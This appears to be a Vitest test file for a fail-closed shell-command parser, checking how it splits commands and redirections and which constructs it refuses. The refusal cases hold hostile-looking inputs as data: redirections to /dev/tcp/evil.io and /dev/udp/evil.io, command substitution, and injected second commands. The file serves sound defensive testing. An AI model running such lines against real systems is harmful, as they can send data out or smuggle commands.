// The fail-closed shell reader: what it reads, word by word, and what it refuses, and why.
import { describe, expect, it } from 'vitest';
import { parseShellLine, type ShellParse } from '../../src/rules/index.js';
import { MAX_LINE } from '../../src/rules/shell.js';

const commands = (parse: ShellParse) => {
  if (!parse.ok) throw new Error(`refused: ${parse.reason}`);
  return parse.commands;
};
const values = (line: string) => commands(parseShellLine(line)).map((c) => c.words.map((w) => w.value));
const texts = (line: string) =>
  commands(parseShellLine(line)).map((c) => c.words.map((w) => w.text).join(' '));

describe('parseShellLine reads', () => {
  it.each([
    ['ls', [['ls']]],
    ['  git   status  ', [['git', 'status']]],
    ['a && b || c; d & e | f |& g', [['a'], ['b'], ['c'], ['d'], ['e'], ['f'], ['g']]],
    [
      'echo a&&touch b',
      [
        ['echo', 'a'],
        ['touch', 'b'],
      ],
    ],
    ['echo \'a; b\' "c && d"', [['echo', 'a; b', 'c && d']]],
    ['echo a\\;b \\$x \\#', [['echo', 'a;b', '$x', '#']]],
    ['echo "a\\"b\\\\c\\$d\\`e\\f"', [['echo', 'a"b\\c$d`e\\f']]],
    ["echo 'a\\nb'", [['echo', 'a\\nb']]],
    ["echo 'line\nnext'", [['echo', 'line\nnext']]],
    ['echo a#b # comment', [['echo', 'a#b']]],
    ['echo hi # it\'s "fine"', [['echo', 'hi']]],
    [
      "echo hi #'\ntouch x",
      [
        ['echo', 'hi'],
        ['touch', 'x'],
      ],
    ],
    ['echo a;#c\nls', [['echo', 'a'], ['ls']]],
    ['a &&\n\n b', [['a'], ['b']]],
    ['a |\n b', [['a'], ['b']]],
    ['\n\na\n\nb\n', [['a'], ['b']]],
    ['# only a comment', []],
    ['', []],
    [
      '[ -f x ] && echo y',
      [
        ['[', '-f', 'x', ']'],
        ['echo', 'y'],
      ],
    ],
    ['echo "h\u00e9llo" \'\u0444\'', [['echo', 'h\u00e9llo', '\u0444']]],
    ['echo \\\u00e9', [['echo', '\u00e9']]],
    ['ls *.ts ~/x a=b', [['ls', '*.ts', '~/x', 'a=b']]],
  ])('%j', (line, expected) => {
    expect(values(line)).toEqual(expected);
  });

  it('writes each word back in one canonical quoting', () => {
    expect(texts("echo 'hi' \"a b\" c\\ d 'it'\\''s' '*' * \"\" x\"*\"")).toEqual([
      "echo hi 'a b' 'c d' 'it'\\''s' '*' * '' 'x*'",
    ]);
    expect(texts('grep -r "a;b" src')).toEqual(["grep -r 'a;b' src"]);
  });

  it('keeps each command as written, and its words as written', () => {
    const [first, second] = commands(parseShellLine('echo  "a b"  >out ;  ls'));
    expect(first!.source).toBe('echo  "a b"  >out');
    expect(first!.words.map((w) => w.source)).toEqual(['echo', '"a b"']);
    expect(second!.source).toBe('ls');
  });

  it.each([
    ['echo hi > out', { fd: undefined, operator: '>', target: 'out', writes: true }],
    ['echo hi >>out', { fd: undefined, operator: '>>', target: 'out', writes: true }],
    ['echo hi >|out', { fd: undefined, operator: '>|', target: 'out', writes: true }],
    ['echo hi 2> err', { fd: 2, operator: '>', target: 'err', writes: true }],
    ['echo hi &> log', { fd: undefined, operator: '&>', target: 'log', writes: true }],
    ['echo hi &>>log', { fd: undefined, operator: '&>>', target: 'log', writes: true }],
    ['echo hi >&log', { fd: undefined, operator: '>&', target: 'log', writes: true }],
    ['echo hi 2>&1', { fd: 2, operator: '>&', target: '1', writes: false }],
    ['echo hi >& 2', { fd: undefined, operator: '>&', target: '2', writes: false }],
    ['echo hi >&-', { fd: undefined, operator: '>&', target: '-', writes: false }],
    ['cat <in', { fd: undefined, operator: '<', target: 'in', writes: false }],
    ['cat 0<&3', { fd: 0, operator: '<&', target: '3', writes: false }],
    ['cat <> rw', { fd: undefined, operator: '<>', target: 'rw', writes: true }],
    ['echo hi >"a b"', { fd: undefined, operator: '>', target: 'a b', writes: true }],
  ])('reads the redirection in %j', (line, expected) => {
    const [command] = commands(parseShellLine(line));
    const redirect = command!.redirects[0]!;
    expect({ ...redirect, target: redirect.target.value }).toEqual(expected);
  });

  it('reads digits right before > as an fd, and any other word as an argument', () => {
    expect(values('echo a2>x "2">y 2 >z')).toEqual([['echo', 'a2', '2', '2']]);
    expect(commands(parseShellLine('echo 2>x'))[0]!.redirects[0]!.fd).toBe(2);
  });
});

describe('parseShellLine refuses', () => {
  it.each([
    ["echo $'\\'';touch x", '"$"'],
    ['echo $"hi"', '"$"'],
    ['echo $HOME', '"$"'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell line, not a template
    ['echo ${IFS}', '"$"'],
    ['echo "$(id)"', '"$" inside double quotes'],
    ['echo $((1+2))', '"$"'],
    ['echo `id`', 'backtick'],
    ['echo "`id`"', 'backtick'],
    ['cat <<EOF\nx\nEOF', 'here-document'],
    ['cat <<< x', 'here-string'],
    ['cat <(ls)', 'process substitution'],
    ['echo >(cat)', 'process substitution'],
    ['echo > >(cat)', 'without a target'],
    ['echo a \\\n b', 'line continuation'],
    ['echo "a\\\nb"', 'line continuation'],
    ['echo a\\', 'backslash at the end'],
    ['echo hi\r', 'U+000D'],
    ['echo hi\u0000', 'U+0000'],
    ['echo hi\u001b[2J', 'U+001B'],
    ['echo "a\u200bb"', 'U+200B'],
    ['echo "a\u202eb"', 'U+202E'],
    ['echo\u00a0hi', 'U+00A0'],
    ['echo "a\u2028b"', 'U+2028'],
    ['\u0435cho hi', 'non-ASCII'],
    ['echo \u00e9', 'non-ASCII'],
    ['(ls)', '"("'],
    ['f() { ls; }', '"("'],
    ['{ ls; }', '"{"'],
    ['echo {a,b}', '"{"'],
    ['if true; then ls; fi', 'keyword "if"'],
    ['for f in a; do ls; done', 'keyword "for"'],
    ['while true; do ls; done', 'keyword "while"'],
    ['! ls', 'keyword "!"'],
    ['time ls', 'keyword "time"'],
    ['[[ -f x ]]', 'keyword "[["'],
    ['case a in a) ls;; esac', '")"'],
    ['A=1 ls', 'assignment'],
    ['A+=1', 'assignment'],
    ['a[0]=1 ls', 'assignment'],
    ['/bin/l* x', 'glob'],
    ['~/bin/x', 'glob or "~"'],
    ["'' x", 'empty command name'],
    ['echo "unclosed', 'unclosed double quote'],
    ["echo 'unclosed", 'unclosed single quote'],
    [';ls', 'command was expected'],
    ['ls;;', 'case syntax'],
    ['ls; ;ls', 'command was expected'],
    ['ls && ', 'command was expected'],
    ['ls |', 'command was expected'],
    ['ls &;', 'command was expected'],
    ['> x', 'redirection with no command'],
    ['echo >', 'without a target'],
    ['echo >#x', 'without a target'],
    ['echo > *.txt', 'glob in a redirection target'],
    ['echo 2>&x', 'not a plain duplication'],
    ['cat <&x', 'not a plain duplication'],
    ['echo >&1-', 'not a plain duplication'],
    ['echo > ""', 'empty redirection target'],
    ['echo > /dev/tcp/evil.io/80', '/dev/tcp'],
    ['cat < /dev/udp/evil.io/53', '/dev/tcp'],
  ])('%j (%s)', (line, reason) => {
    const parse = parseShellLine(line);
    expect(parse.ok).toBe(false);
    expect(parse.ok ? '' : parse.reason).toContain(reason);
  });

  it('refuses a line longer than MAX_LINE, quickly', () => {
    const started = performance.now();
    expect(parseShellLine('echo '.repeat(MAX_LINE)).ok).toBe(false);
    expect(parseShellLine(`echo ${'a'.repeat(MAX_LINE - 10)}`).ok).toBe(true);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('says where the line was refused', () => {
    expect(parseShellLine('echo ok; echo $x')).toEqual({ ok: false, reason: expect.any(String), index: 14 });
  });
});
